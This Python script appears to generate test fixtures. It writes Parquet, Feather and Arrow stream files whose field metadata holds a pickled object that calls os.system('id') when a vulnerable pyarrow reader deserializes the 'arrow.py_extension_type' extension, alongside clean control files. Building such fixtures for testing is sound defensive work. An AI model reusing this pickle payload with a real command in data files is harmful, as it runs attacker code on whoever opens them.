"""Writes the tables in arrow/.    python arrow.py      Python 3.11 with pyarrow, pandas

Nothing is loaded, and the command is harmless.
"""

import os
import pickle

import pandas as pd
import pyarrow as pa
import pyarrow.feather
import pyarrow.parquet

folder = os.path.join(os.path.dirname(os.path.abspath(__file__)), "arrow")


class Shell:
    def __reduce__(self):
        return os.system, ("id",)


def stream(table, name):
    with pa.OSFile(os.path.join(folder, name), "wb") as f, pa.ipc.new_stream(f, table.schema) as w:
        w.write_table(table, max_chunksize=1)


for p in (0, 4):
    field = pa.field("a", pa.int64(), metadata={"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": pickle.dumps(Shell(), p)})
    table = pa.table([pa.array([1, 2])], schema=pa.schema([field]))
    pa.parquet.write_table(table, os.path.join(folder, f"shell{p}.parquet"))
    pa.feather.write_feather(table, os.path.join(folder, f"shell{p}.feather"))
    stream(table, f"shell{p}.arrows")
frame = pd.DataFrame({"a": [1, 2], "b": ["clear", None], "c": pd.date_range("2020", periods=2, tz="UTC"), "d": [[1], [2, 3]], "e": [{"x": 1}, {"x": 2}], "f": [b"\x80\x04N.", b"cposix\n"]})
frame.to_parquet(os.path.join(folder, "good.parquet"))
frame.to_feather(os.path.join(folder, "good.feather"))
stream(pa.Table.from_pandas(frame), "good.arrows")
